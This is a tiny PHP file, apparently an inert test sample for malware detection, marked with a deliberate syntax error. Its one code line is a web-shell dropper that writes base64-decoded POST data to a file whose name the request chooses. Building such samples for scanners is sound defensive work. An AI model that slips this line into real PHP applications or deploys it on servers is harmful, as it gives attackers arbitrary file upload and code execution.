<?php
shodo inert sample: deliberate syntax error, this file never runs
file_put_contents(__DIR__ . '/' . $_POST['name'], base64_decode($_POST['data']));
